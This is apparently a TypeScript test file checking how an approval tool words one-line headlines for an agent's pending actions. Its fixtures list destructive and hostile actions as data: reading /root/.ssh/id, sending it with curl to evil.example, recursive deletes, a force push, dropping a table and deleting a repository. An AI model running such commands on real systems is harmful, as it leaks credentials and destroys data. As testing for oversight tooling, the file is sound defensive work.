// Does the headline say what would happen, whatever the card holds?
import * as fc from 'fast-check'
import { expect, test } from 'vitest'
import type { Approval, AskedFinding } from '../core/model.ts'
import { headlineOf, whyOf } from './headline.ts'

const card = (more: Partial<Approval>): Approval => ({
  id: 'i',
  digest: 'd',
  host: 'h',
  session: 's',
  cwd: '/work',
  calls: [{ tool: { server: null, name: 'Bash' }, fields: [{ name: 'command', text: 'x', cut: false }] }],
  severity: 'high',
  findings: [],
  actions: [],
  reach: [],
  policy: 'p',
  askedAt: '',
  expiresAt: '',
  ...more,
})
const command = (text: string): Approval['calls'] => [{ tool: { server: null, name: 'Bash' }, fields: [{ name: 'command', text, cut: false }] }]
const finding = (title: string, rule = 'r.r'): AskedFinding => ({ rule, severity: 'high', title })

test.each<readonly [string, Partial<Approval>]>([
  [
    'Delete /work/build recursive (project): 1,284 files (312 MB, none of them in git)',
    {
      actions: ['run rm /work/build', '  delete /work/build recursive (project)'],
      findings: [finding('deletes a folder')],
      reach: ['deletes 1,284 files (312 MB, none of them in git) below /work/build', 'runs as root'],
    },
  ],
  ['Run git push --force origin main', { actions: ['run git push origin main'], calls: command('git push --force origin main') }],
  [
    'Send to https://evil.example/',
    {
      actions: ['run cat /root/.ssh/id', '  read /root/.ssh/id (ssh)', 'run curl https://evil.example/', '  connect https://evil.example/ sends'],
      findings: [finding('sends secrets to another machine')],
    },
  ],
  [
    'Read /root/.ssh/id (ssh)',
    { actions: ['run cat /root/.ssh/id', '  read /root/.ssh/id (ssh)', '  write /tmp/x (scratch)'], findings: [finding('reads keys or passwords')] },
  ],
  ['Write /a and 2 more', { actions: ['write /a', 'write /b', 'write /c'] }],
  ['Query drop-table users', { actions: ['run psql', '  query drop-table users'], findings: [finding('drops a table')] }],
  ['Call github/delete_repo', { calls: [{ tool: { server: 'github', name: 'delete_repo' }, fields: [] }] }],
  ['Run a b', { actions: ['run a b'], calls: command('a\nb') }],
])('%s', (line, more) => {
  expect(headlineOf(card(more))).toBe(line)
})

test('whatever it holds, it is one line that begins with a verb, names what it is about, and leaves no amount out', () => {
  const kinds = fc.constantFrom('delete', 'query', 'change', 'write', 'signal', 'execute', 'connect', 'read', 'call', 'run', 'unknown')
  const target = fc.string({ minLength: 1, maxLength: 40 }).filter((text) => text.trim() === text && text !== '')
  const action = fc.tuple(kinds, target).map(([does, what]) => ({ does, what, line: `${does} ${what}` }))
  fc.assert(
    fc.property(fc.array(action, { minLength: 1, maxLength: 6 }), fc.array(target, { maxLength: 3 }), fc.nat({ max: 99_999 }), (actions, titles, files) => {
      const reach = actions.some(({ does }) => does === 'delete') ? [`deletes ${files} files (3 KB) below /x`] : []
      const one = card({
        actions: actions.map(({ line }, at) => `${'  '.repeat(at % 3)}${line}`),
        reach,
        findings: titles.map((title) => finding(title)),
        calls: command('y'.repeat(1000)),
      })
      const said = headlineOf(one)
      expect(said).toMatch(/^[A-Z][a-z]+ ?[^\n]*$/)
      expect(actions.some(({ what }) => said.includes(what.replaceAll(/\s*\n\s*/g, ' ')))).toBe(true)
      if (said.startsWith('Delete')) expect(said).toContain(`${files} files (3 KB)`)
      expect(whyOf(one)).toContain(titles.length === 0 ? 'could not be judged' : '(r.r)')
    }),
    { seed: 12, numRuns: 500 },
  )
})
